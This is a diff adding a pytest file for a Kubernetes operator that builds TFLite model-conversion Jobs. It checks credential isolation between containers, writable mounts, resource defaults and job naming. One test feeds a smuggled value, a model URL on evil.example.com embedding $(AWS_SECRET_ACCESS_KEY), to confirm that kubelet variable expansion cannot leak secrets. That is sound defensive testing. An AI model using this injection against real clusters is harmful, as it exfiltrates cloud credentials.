@@ -1,0 +1,112 @@
+"""The Job of an attempt, whole, beside the conversion that it is made of.
+
+After a change that is meant: TFLITE_WRITE_GOLDEN=1 pytest tests/unit/operator/test_job.py, then read the diff.
+"""
+
+import os
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from hypothesis import given
+from hypothesis import strategies as st
+
+from tests.unit.operator.builders import SETTINGS, SPEC
+from tflite_api.names import STEP_REQUEST_ENV
+from tflite_api.spec import ConversionSpec
+from tflite_api.step import StepRequest
+from tflite_operator.identity import Identity
+from tflite_operator.job import build_job, job_name
+
+JOBS = Path(__file__).parent / "jobs"
+UID = "11111111-2222-3333-4444-555555555555"
+SECRETS = {"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"}
+
+
+def built(given: dict[str, Any]) -> dict[str, Any]:
+    identity = Identity("team", given["name"], UID, given.get("generation", 1))
+    spec = ConversionSpec.from_object(given["spec"])
+    return build_job(identity, spec, given.get("attempt", 1), given.get("failures", 0), SETTINGS)
+
+
+@pytest.mark.parametrize("name", sorted(path.name.removesuffix(".input.yaml") for path in JOBS.glob("*.input.yaml")))
+def test_the_job_is_as_written_down(name: str) -> None:
+    job = built(yaml.safe_load((JOBS / f"{name}.input.yaml").read_text()))
+    golden = JOBS / f"{name}.job.yaml"
+    if os.environ.get("TFLITE_WRITE_GOLDEN"):
+        golden.write_text(yaml.dump(job, sort_keys=False, width=120, Dumper=_WithoutAliases))
+    assert job == yaml.safe_load(golden.read_text())
+
+
+class _WithoutAliases(yaml.SafeDumper):
+    def ignore_aliases(self, data: object) -> bool:
+        return True
+
+
+def containers() -> dict[str, dict[str, Any]]:
+    pod = built({"name": "a", "spec": SPEC})["spec"]["template"]["spec"]
+    return {one["name"]: one for one in [*pod["initContainers"], *pod["containers"]]}
+
+
+def test_the_container_that_runs_the_model_has_no_credentials() -> None:
+    variables = {name: {one["name"] for one in container["env"]} for name, container in containers().items()}
+    assert variables["convert"] & SECRETS == set()
+    assert variables["prepare"] >= SECRETS
+    assert variables["publish"] >= SECRETS
+
+
+def test_a_spec_cannot_have_the_kubelet_put_credentials_into_the_request() -> None:
+    spec = SPEC | {"model": {"handle": "https://evil.example.com/$(AWS_SECRET_ACCESS_KEY)/$$(HOME)"}}
+    pod = built({"name": "a", "spec": spec})["spec"]["template"]["spec"]
+    for container in [*pod["initContainers"], *pod["containers"]]:
+        told = next(one["value"] for one in container["env"] if one["name"] == STEP_REQUEST_ENV)
+        assert "$" not in told
+        assert StepRequest.model_validate_json(told).spec == ConversionSpec.from_object(spec)
+
+
+def test_convert_can_write_nothing_that_publish_could_trip_over_but_the_output() -> None:
+    writable = {
+        name: {mount["name"] for mount in container["volumeMounts"] if not mount.get("readOnly")}
+        for name, container in containers().items()
+    }
+    assert writable == {
+        "prepare": {"model", "scratch-prepare"},
+        "convert": {"output", "scratch-convert"},
+        "publish": {"scratch-publish"},
+    }
+
+
+@pytest.mark.parametrize(
+    ("resources", "requests", "limits"),
+    [
+        ({}, {"cpu": "500m", "memory": "2Gi"}, {"memory": "4Gi"}),
+        ({"limits": {"memory": "300Mi"}}, {"cpu": "500m", "memory": "300Mi"}, {"memory": "300Mi"}),
+        ({"requests": {"memory": "8Gi"}}, {"memory": "8Gi", "cpu": "500m"}, {"memory": "8Gi"}),
+        ({"limits": {"cpu": "100m"}}, {"cpu": "100m", "memory": "2Gi"}, {"cpu": "100m", "memory": "4Gi"}),
+    ],
+)
+def test_defaults_never_contradict_what_the_user_wrote(
+    resources: dict[str, Any], requests: dict[str, str], limits: dict[str, str]
+) -> None:
+    made = built({"name": "a", "spec": SPEC | {"resources": resources}})
+    convert = made["spec"]["template"]["spec"]["initContainers"][1]
+    assert convert["resources"] == {"requests": requests, "limits": limits}
+
+
+@given(
+    st.from_regex(r"\A[a-z0-9]([-a-z0-9.]{0,250}[a-z0-9])?\Z"),
+    st.integers(1, 10**9),
+    st.integers(1, 10**6),
+)
+def test_every_name_is_a_label_and_each_attempt_has_its_own(name: str, generation: int, attempt: int) -> None:
+    identity = Identity("team", name, UID, generation)
+    made = job_name(identity, attempt)
+    assert len(made) <= 63
+    assert all(part.isalnum() or part == "-" for part in made)
+    assert made[0].isalnum()
+    assert made[-1].isalnum()
+    assert made == job_name(identity, attempt)
+    assert made != job_name(identity, attempt + 1)
+    assert made != job_name(Identity("team", name, UID, generation + 1), attempt)
+    assert made != job_name(Identity("team", name, "other", generation), attempt)
